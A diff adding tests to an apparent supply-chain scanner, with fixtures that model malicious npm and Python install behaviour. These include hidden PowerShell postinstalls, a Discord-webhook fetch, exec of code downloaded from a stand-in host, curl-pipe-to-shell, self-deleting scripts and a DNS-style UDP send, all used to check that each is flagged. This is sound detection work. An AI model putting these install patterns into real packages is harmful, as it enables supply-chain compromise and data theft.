@@ -216,3 +216,50 @@ def test_real_package_near_misses_are_not_indicators(files, tmp_path: Path) -> N
     indicators = [f.rule for _, f in report.findings if f.axis == "indicator"]
     assert indicators == [], report.findings_rows()
     assert report.verdict in ("clean", "capabilities-only")
+
+
+def test_npm_run_and_node_dot_are_followed_to_the_file_they_run(tmp_path: Path) -> None:
+    scripts = {"postinstall": "npm run setup:native", "setup:native": "node scripts/native.js"}
+    ran = review(_write(tmp_path / "run", _npm({"scripts/native.js": NET}, scripts=scripts)))
+    assert ("install.network", "scripts/native.js") in {(f.rule, f.file) for _, f in ran.findings}
+    dot = _npm({"lib/main.js": NET}, main="lib/main.js", scripts={"install": "node ."})
+    main = review(_write(tmp_path / "dot", dot))
+    assert ("install.network", "lib/main.js") in {(f.rule, f.file) for _, f in main.findings}
+
+
+SETUP = "from setuptools import setup\n"
+MORE_SHAPES = {
+    "exec.encoded-command": _npm(
+        {}, scripts={"postinstall": "powershell -WindowStyle Hidden -c ./a.ps1"}
+    ),
+    "supply.exfil-host": _npm(
+        {"index.js": "fetch('https://discord.com/api/webhooks/123/abcDEF', {body});\n"}
+    ),
+    "install.download-exec": {
+        "setup.py": SETUP + "import urllib.request\n"
+        "exec(urllib.request.urlopen('https://x.example/p.py').read())\nsetup(name='d')\n"
+    },
+    "install.second-runtime": _npm(
+        {"p.ts": "1;"}, scripts={"postinstall": "curl -fsSL https://deno.land/install.sh | sh"}
+    ),
+    "install.self-delete": _npm(
+        {"setup.js": "1;"}, scripts={"postinstall": "node setup.js && rm -f setup.js"}
+    ),
+    "install.cmdclass-egg-info": {
+        "setup.cfg": "[options]\ncmdclass =\n    egg_info = hooks.Egg\n",
+        "hooks.py": "class Egg: pass\n",
+    },
+    "network.dns-exfil": {
+        "setup.py": SETUP + "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "s.sendto(b'x', ('198.51.100.7', 53))\nsetup(name='d')\n"
+    },
+}
+
+
+@pytest.mark.parametrize("rid", list(MORE_SHAPES))
+def test_more_indicator_shapes(rid: str, tmp_path: Path) -> None:
+    report = review(_write(tmp_path, MORE_SHAPES[rid]))
+    assert rid in _rules(report), report.findings_rows()
+    # one indicator in code that runs later is suspicious; at install time it is malicious
+    expected = "suspicious" if rid == "supply.exfil-host" else "malicious"
+    assert report.verdict == expected, report.verdict_line()
